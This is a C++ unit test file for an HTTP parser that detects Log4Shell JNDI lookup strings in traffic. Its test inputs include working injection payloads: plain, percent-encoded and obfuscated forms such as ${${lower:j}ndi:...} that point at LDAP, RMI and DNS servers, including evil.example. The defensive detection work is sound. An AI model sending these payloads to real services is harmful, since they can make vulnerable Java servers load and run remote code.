#include "parsers/http/jndi.h"

#include <gtest/gtest.h>

#include <string>

namespace ward::parsers::http {
namespace {

TEST(JndiLookup, PlainAndPercentEncoded) {
  EXPECT_EQ(find_jndi_lookup("User-Agent: ${jndi:ldap://10.0.0.9:1389/a}\r\n"),
            "${jndi:ldap://10.0.0.9:1389/a}");
  // The form field of nDPI's log4j-webapp-exploit.pcap.
  EXPECT_EQ(
      find_jndi_lookup("uname=%24%7Bjndi%3Aldap%3A%2F%2F172.16.238.11%3A1389%2Fa%7D&password="),
      "${jndi:ldap://172.16.238.11:1389/a}");
  EXPECT_EQ(find_jndi_lookup("X-Api-Version: ${JNDI:RMI://evil.example/x}"),
            "${jndi:rmi://evil.example/x}");
}

TEST(JndiLookup, ObfuscatedWithNestedLookups) {
  EXPECT_EQ(find_jndi_lookup("${${lower:j}${lower:n}${lower:d}i:ldap://h/a}"),
            "${jndi:ldap://h/a}");
  EXPECT_EQ(find_jndi_lookup("${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://h/a}"),
            "${jndi:ldap://h/a}");
  EXPECT_EQ(find_jndi_lookup("${${env:NOPE:-j}ndi${env:NOPE:-:}dns://h/a}"), "${jndi:dns://h/a}");
  EXPECT_EQ(find_jndi_lookup("${${upper:j}ndi:ldaps://h/a}"), "${jndi:ldaps://h/a}");
  // Nested inside another lookup: Log4j evaluates the inner one first.
  EXPECT_EQ(find_jndi_lookup("${env:${jndi:ldap://h/a}}"), "${jndi:ldap://h/a}");
}

TEST(JndiLookup, BareProviderUrl) {
  // nDPI's capture sends "jndi:ldap://..." as User-Agent: the shell ate the "${".
  EXPECT_EQ(find_jndi_lookup("User-Agent: jndi:ldap://172.16.238.11:1389/a\r\n"),
            "jndi:ldap://172.16.238.11:1389/a");
}

TEST(JndiLookup, NothingInOrdinaryTraffic) {
  EXPECT_EQ(
      find_jndi_lookup("GET /fhir/Observation?patient=p1&_count=10 HTTP/1.1\r\nHost: ehr\r\n"),
      std::nullopt);
  EXPECT_EQ(find_jndi_lookup("price=${amount}&note=100%25 sure"), std::nullopt);
  EXPECT_EQ(find_jndi_lookup("the jndi: documentation, jndi:java:comp/env"), std::nullopt);
  EXPECT_EQ(find_jndi_lookup("${lower:${upper:x}}"), std::nullopt);
  EXPECT_EQ(find_jndi_lookup(""), std::nullopt);
}

TEST(JndiLookup, HostileInputIsBoundedAndSafe) {
  // Unclosed, deeply nested and long inputs: no crash, linear work, a clipped answer.
  EXPECT_EQ(find_jndi_lookup(std::string(100000, '{')), std::nullopt);
  std::string deep;
  for (int i = 0; i < 5000; ++i) deep += "${";
  EXPECT_EQ(find_jndi_lookup(deep), std::nullopt);
  std::string nested = "${jndi:ldap://h/";
  for (int i = 0; i < 20; ++i) nested += "${lower:";
  nested += "x";
  EXPECT_TRUE(find_jndi_lookup(nested).has_value());
  const auto clipped = find_jndi_lookup("${jndi:ldap://" + std::string(10000, 'a') + "}");
  ASSERT_TRUE(clipped.has_value());
  EXPECT_EQ(clipped->size(), 160u);
  EXPECT_EQ(find_jndi_lookup("%2%4%7B%jndi:%"), std::nullopt);
}

}  // namespace
}  // namespace ward::parsers::http
